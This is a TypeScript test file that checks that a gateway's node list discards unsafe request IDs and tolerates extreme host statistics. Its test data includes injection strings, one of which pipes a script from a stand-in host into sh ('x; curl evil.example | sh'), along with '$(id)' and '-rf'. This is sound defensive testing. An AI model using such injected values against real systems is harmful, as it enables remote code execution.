import { expect, it } from 'vitest';
import { OPERATOR_CALLS } from '#shared/app-api/index.ts';
import { GatewayAdministration } from '#agent/openclaw/operator/index.ts';
import { FakeChannel } from './fake-gateway.ts';

const row = { nodeId: 'a'.repeat(64), approvalState: 'pending-approval', connected: true };

function administration(nodes: readonly unknown[]): GatewayAdministration {
  const channel = new FakeChannel();
  channel.answers['node.list'] = () => ({ nodes });
  return new GatewayAdministration({
    gateways: { find: () => ({ id: 'home', name: 'home' }), ready: async () => channel, deviceIds: () => [] },
    audit: { record: () => undefined },
  });
}

it.each([
  ['5e1f0a77-2b9d', '5e1f0a77-2b9d'],
  ['x; curl evil.example | sh', null],
  ['$(id)', null],
  ['-rf', null],
])('a request of a node is named %j only where that is a name in a command [S-GW-7]', async (said, shown) => {
  const nodes = await administration([{ ...row, pendingRequestId: said }]).nodes('home', new AbortController().signal);
  expect(nodes).toMatchObject([{ requestId: shown, approval: 'pending-approval' }]);
});

it('a node that claims figures without measure is shown without making the list unreadable [S-GW-7]', async () => {
  const most = Number.MAX_VALUE;
  const hostStats = { cpuCount: 5e-324, loadAverage: [most], memoryTotalBytes: most, diskTotalBytes: most };
  const nodes = await administration([{ ...row, hostStats, lastSeenAtMs: most }]).nodes(
    'home',
    new AbortController().signal,
  );
  expect(nodes).toHaveLength(1);
  expect(OPERATOR_CALLS['nodes.list'].output.safeParse(nodes).success).toBe(true);
});
